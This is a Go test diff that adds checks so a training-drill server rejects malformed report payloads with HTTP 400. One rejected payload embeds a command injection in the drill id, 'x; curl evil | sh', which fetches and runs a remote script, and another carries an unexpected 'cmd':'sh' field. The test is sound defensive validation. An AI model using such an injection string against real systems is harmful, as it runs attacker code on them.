@@ -361,6 +361,17 @@ func TestTwoLearnersOnADrill(t *testing.T) {
 		send(who, Report{Steps: []StepReport{}, Drill: &DrillReport{ID: "scheduler-stopped", State: DrillOn, Seconds: 5}})
 	}
 	send(bob, Report{Drill: &DrillReport{ID: "scheduler-stopped", State: DrillSolved, Seconds: 200, FixSeconds: 187}})
+	// A drill part the room refuses refuses the report, and changes nothing.
+	for _, bad := range []string{
+		`{"steps":[],"drill":{"id":"scheduler-stopped","state":"on","seconds":-5}}`,
+		`{"steps":[],"drill":{"id":"x; curl evil | sh","state":"on"}}`,
+		`{"steps":[],"drill":{"id":"scheduler-stopped","state":"solved","seconds":1,"fix_seconds":1,"cmd":"sh"}}`,
+		`{"steps":[],"drill":"scheduler-stopped"}`,
+	} {
+		if code, body := do(t, "POST", hs.URL+"/api/report", "Bearer "+bob.ID+"."+bob.Secret, bad); code != 400 {
+			t.Fatalf("%s: %d %s", bad, code, body)
+		}
+	}
 
 	v := getView(t, hs.URL)
 	if v.Announced != "scheduler-stopped" || len(v.Drills) != 1 {
